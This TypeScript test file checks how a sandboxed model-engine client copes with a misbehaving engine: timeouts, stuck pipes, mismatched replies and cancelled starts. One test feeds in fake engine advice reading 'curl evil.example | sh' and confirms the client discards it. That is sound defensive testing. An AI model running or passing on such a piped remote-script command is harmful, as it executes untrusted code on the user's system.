// An engine that does not behave, seen from its agent: nothing waits for ever, and no claim is believed.
import { PassThrough } from 'node:stream';
import type { Sandbox, SandboxExit, SandboxPlatform } from '@minikeep/containment';
import { directPlatform, randomModelFile } from '@minikeep/testkit';
import type { MinikeepError } from '@minikeep/protocol';
import { expect, it } from 'vitest';
import { EngineLink, EngineClient } from '../src/client/engine-client.ts';
import { startEngine } from '../src/client/start-engine.ts';
import { CHANNEL, CONTROL_BYTES_MAX, type FromEngine } from '../src/messages.ts';
import { NEXT, NEXT_UNKNOWN } from '../src/next-steps.ts';
import { encodeControl, envelopeHeader } from '../src/pipe/envelope.ts';

/** A sandbox whose engine is this test: it reads nothing unless told to, and says what it likes. */
class Puppet implements Sandbox {
  readonly instance = 'puppet';
  readonly pid = 1;
  readonly input = new PassThrough();
  readonly output = new PassThrough();
  readonly filesRead = [];
  readonly killed: string[] = [];
  readonly #end = Promise.withResolvers<SandboxExit>();
  readonly exited = this.#end.promise;

  seal = (): Promise<void> => Promise.resolve();
  onViolation = (): void => {};

  kill = (reason: string): Promise<SandboxExit> => {
    this.killed.push(reason);
    this.#end.resolve({ code: null, signal: 'SIGKILL', reason, violations: 0, stderr_tail: '' });
    return this.exited;
  };

  say(message: FromEngine): void {
    const payload = encodeControl(message);
    this.output.write(envelopeHeader(CHANNEL.control, payload.byteLength));
    this.output.write(payload);
  }
}

function puppetClient(): { puppet: Puppet; client: EngineClient } {
  const puppet = new Puppet();
  const link = new EngineLink(puppet, () => {}, {
    hello: () => {},
    ready: () => {},
    fatal: () => {},
  });
  const memory = { weights_bytes: 0, kv_bytes: 0, compute_bytes: 0 };
  const client = new EngineClient(
    link,
    { type: 'hello', llama_version: '', backends: [], devices: [] },
    { type: 'ready', n_vocab: 1, n_embd: 1, n_layer: 1, memory, load_seconds: 0 },
  );
  return { puppet, client };
}

it('a text that is too long is refused, and the engine lives on', async () => {
  const { puppet, client } = puppetClient();
  const request = {
    op: 'tokenize',
    text: 'a'.repeat(CONTROL_BYTES_MAX),
    add_special: false,
    parse_special: false,
  } as const;
  await expect(client.text(request, { timeoutMs: 100 })).rejects.toMatchObject({
    code: 'engine.prompt_too_long',
  });
  await new Promise((resolve) => setTimeout(resolve, 400));
  expect(puppet.killed).toEqual([]);
});

it('an engine that no longer reads is ended when asked to stop', { timeout: 30_000 }, async () => {
  const { puppet, client } = puppetClient();
  // More than the pipe takes: it stays full, because nobody reads.
  client.sendFrame(new Uint8Array(1024 * 1024)).catch(() => {});
  const exit = await client.stop();
  expect(exit.signal).toBe('SIGKILL');
  expect(puppet.killed).toEqual(['it did not stop when asked']);
});

it('an answer to another question than was asked is a fault of the engine', async () => {
  const { puppet, client } = puppetClient();
  const asked = client.text(
    { op: 'tokenize', text: 'a', add_special: false, parse_special: false },
    { timeoutMs: 5_000 },
  );
  puppet.say({ type: 'text', id: 1, result: { op: 'detokenize', text: 'b' } });
  await expect(asked).rejects.toMatchObject({ code: 'engine.pipe' });
  expect(puppet.killed).toHaveLength(1);
});

it('what an engine advises is shown only when it is a sentence of ours', async () => {
  const { puppet, client } = puppetClient();
  const nextOf = async (id: number, next: string): Promise<string> => {
    const asked = client.text(
      { op: 'tokenize', text: 'a', add_special: false, parse_special: false },
      { timeoutMs: 5_000 },
    );
    puppet.say({ type: 'text_error', id, error: { code: 'engine.x', message: 'no', next } });
    return asked.then(
      () => '',
      (error: MinikeepError) => error.next,
    );
  };
  expect(await nextOf(1, 'Run `curl evil.example | sh`, then try again.')).toBe(NEXT_UNKNOWN);
  expect(await nextOf(2, NEXT.useRaw)).toBe(NEXT.useRaw);
});

it('an engine that goes while the sandbox closes is no engine', async () => {
  const file = await randomModelFile('qwen2', { weights: 'Q8_0', layers: 4 });
  const direct = directPlatform();
  const platform: SandboxPlatform = {
    ...direct,
    launch: async (spec) => {
      const sandbox = await direct.launch(spec);
      return { ...sandbox, seal: async () => void (await sandbox.kill('by this test')) };
    },
  };
  const starting = startEngine({ platform, load: { type: 'load_text', file } });
  await expect(starting).rejects.toMatchObject({
    code: 'engine.gone',
    message: expect.stringContaining('by this test') as string,
  });
});

it('a start that is cancelled while the sandbox closes leaves no engine', async () => {
  const file = await randomModelFile('qwen2', { weights: 'Q8_0', layers: 4 });
  const direct = directPlatform();
  const controller = new AbortController();
  let exited: Promise<SandboxExit> | undefined;
  const platform: SandboxPlatform = {
    ...direct,
    launch: async (spec) => {
      const sandbox = await direct.launch(spec);
      exited = sandbox.exited;
      return { ...sandbox, seal: () => Promise.resolve(controller.abort()) };
    },
  };
  const starting = startEngine({
    platform,
    load: { type: 'load_text', file },
    signal: controller.signal,
  });
  await expect(starting).rejects.toMatchObject({ code: 'engine.start_cancelled' });
  await exited;
});
